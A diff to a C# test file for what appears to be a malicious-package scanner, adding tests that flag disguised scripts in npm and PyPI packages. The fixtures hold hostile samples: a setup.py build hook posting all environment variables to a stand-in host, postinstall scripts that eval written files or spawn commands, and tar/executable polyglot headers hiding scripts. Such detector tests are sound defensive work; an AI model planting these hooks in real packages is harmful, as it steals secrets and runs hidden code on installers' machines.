@@ -92,19 +92,12 @@ public sealed class DisguiseTests
     [Fact]
     public void A_script_that_is_an_archive_or_a_program_besides_is_read_as_a_script()
     {
-        byte[] tar = new byte[1024];
-        Encoding.ASCII.GetBytes("/*").CopyTo(tar, 0);
-        Encoding.ASCII.GetBytes("ustar").CopyTo(tar, 257);
-        int sum = tar.Sum(value => value) + (8 * ' ');
-        Encoding.ASCII.GetBytes(Convert.ToString(sum, 8).PadLeft(6, '0') + "\0 ").CopyTo(tar, 148);
-        Encoding.ASCII.GetBytes("*/").CopyTo(tar, 1022);
-
         byte[] program = new byte[512];
         Encoding.ASCII.GetBytes("MZ=1/*").CopyTo(program, 0);
         program[60] = 128;
         Encoding.ASCII.GetBytes("PE\0\0").CopyTo(program, 128);
         Encoding.ASCII.GetBytes("*/;").CopyTo(program, 508);
-        foreach (byte[] beginning in (byte[][])[tar, program])
+        foreach (byte[] beginning in (byte[][])[Tar("/*", "*/"), program])
         {
             byte[] file = [.. beginning, .. Encoding.ASCII.GetBytes(Script)];
             Of(new NpmPackageBuilder("sample", "1.0.0").File("index.js", "require('./x.js')").File("x.js", file)).Verdict.ShouldBe(Verdict.Malicious);
@@ -112,9 +105,56 @@ public sealed class DisguiseTests
         }
     }
 
+    [Theory]
+    [InlineData("\n/*", "*/")]
+    [InlineData("a=`", "`")]
+    [InlineData("\uFEFF/*", "*/")]
+    public void A_script_in_an_archive_may_open_what_holds_its_header_anywhere(string open, string close) =>
+        Of(new NpmPackageBuilder("sample", "1.0.0").File("index.js", "require('./x.js')").File("x.js", [.. Tar(open, close), .. Encoding.ASCII.GetBytes(Script)])).Verdict.ShouldBe(Verdict.Malicious);
+
+    [Theory]
+    [InlineData("const fs = require('fs'); fs.writeFileSync(__dirname + '/x.txt', process.argv[2]); eval(fs.readFileSync(__dirname + '/x.txt', 'utf8'))")]
+    [InlineData("const fs = require('fs'); fs.writeFileSync(process.argv[3], process.argv[2]); eval(fs.readFileSync(__dirname + '/x.txt', 'utf8'))")]
+    [InlineData("const fs = require('fs'); eval(fs.readFileSync(__dirname + '/gone.txt', 'utf8'))")]
+    [InlineData("const fs = require('fs'); eval(fs.readFileSync(__dirname + '/y', 'utf8'))")]
+    public void A_file_that_is_written_first_or_is_not_there_is_not_known(string code) =>
+        Of(new NpmPackageBuilder("sample", "1.0.0").Script("postinstall", "node i.js").File("index.js", "").File("i.js", code).File("x.txt", "1").File("y.js", "1")).Verdict.ShouldBe(Verdict.Suspicious);
+
+    [Fact]
+    public void What_an_unknown_program_may_be_given_lies_anywhere() =>
+        Of(new NpmPackageBuilder("sample", "1.0.0").Script("postinstall", "node i.js").File("index.js", "")
+            .File("i.js", "const d = require('./d.json'); require('child_process').spawnSync(d.a, [d.b]);").File("d.json", "{}").File("test/x.js", Script)).Verdict.ShouldBe(Verdict.Malicious);
+
+    [Fact]
+    public void A_command_of_setup_may_run_another() =>
+        CatalogueInspection.Of(Ecosystem.PyPi, "sample-1.0.0.tar.gz", new SdistBuilder("sample", "1.0.0").File("sample/__init__.py", "").File("setup.py", """
+            import os, json, urllib.request
+            from setuptools import setup, Command
+            from setuptools.command.build_py import build_py
+            class Other(Command):
+                def run(self):
+                    urllib.request.urlopen('https://collect.invalid/x', data=json.dumps(dict(os.environ)).encode())
+            class Build(build_py):
+                def run(self):
+                    self.run_command('other')
+            setup(name='sample', version='1.0.0', packages=['sample'], cmdclass={'build_py': Build, 'other': Other})
+            """).Build()).Verdict.ShouldBe(Verdict.Malicious);
+
     [Fact]
     public void A_script_with_the_mark_of_an_archive_is_a_script() =>
         Of(new NpmPackageBuilder("sample", "1.0.0").File("index.js", "//" + new string('x', 255) + "ustar\n" + new string(';', 400) + Script)).Findings.ShouldNotContain(finding => finding.Rule == "archive-oddity");
+
+    // A header of a tar with the right checksum, in something that a script has open.
+    private static byte[] Tar(string open, string close)
+    {
+        byte[] tar = new byte[1024];
+        Encoding.UTF8.GetBytes(open).CopyTo(tar, 0);
+        Encoding.ASCII.GetBytes("ustar").CopyTo(tar, 257);
+        int sum = tar.Sum(value => value) + (8 * ' ');
+        Encoding.ASCII.GetBytes(Convert.ToString(sum, 8).PadLeft(6, '0') + "\0 ").CopyTo(tar, 148);
+        Encoding.ASCII.GetBytes(close + ";").CopyTo(tar, 1023 - close.Length);
+        return tar;
+    }
 
     private static InspectionReport Of(NpmPackageBuilder package) => CatalogueInspection.Of(Ecosystem.Npm, package.FileName, package.Build());
 }
